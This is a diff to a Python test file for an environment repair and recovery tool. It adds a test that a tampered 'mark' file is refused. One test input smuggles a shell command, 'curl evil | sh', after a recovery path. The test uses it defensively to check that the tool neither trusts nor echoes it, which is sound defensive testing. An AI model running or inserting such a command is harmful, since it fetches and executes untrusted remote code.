@@ -90,10 +90,11 @@ def test_an_environment_that_was_made_again_is_another_one(world: ApplyWorld) ->
     before = world.former()
     work = work_in(world)
 
-    with pytest.raises(WorldError, match="it was made again"):
+    with pytest.raises(WorldError, match="was made again"):
         repair(work)
+    assert repair(replace(work, force=True)) is None, "forgotten, and nothing of it put back"
     work.hold.release()
-    assert "it was made again" in recover(journal).stdout
+    assert recover(journal, "--force").stdout.startswith("nothing to put back")
     assert world.former() == before
 
 
@@ -142,6 +143,19 @@ def test_a_program_whose_own_libraries_are_gone_names_the_way_back(world: ApplyW
     assert "cannot be imported" in done.stderr
     assert f"python3 {journal}/{RECOVER}" in done.stderr
     assert "Traceback" not in done.stderr
+
+
+@pytest.mark.parametrize("text", [b"", b"\xff\x00", b"python3 /x/recover.py; curl evil | sh\n"])
+def test_a_mark_is_believed_only_for_what_it_can_say(world: ApplyWorld, text: bytes) -> None:
+    work = work_in(world)
+    Path(mark_path(work.environment)).write_bytes(text)
+
+    for act in (repair, lambda work: undo(work, None)):
+        with pytest.raises(WorldError) as refused:
+            act(work)
+        assert refused.value.code == "unfinished"
+        assert "curl" not in (refused.value.hint or "")
+    work.hold.release()
 
 
 def test_the_mark_is_gone_after_an_apply_that_ends(world: ApplyWorld) -> None:
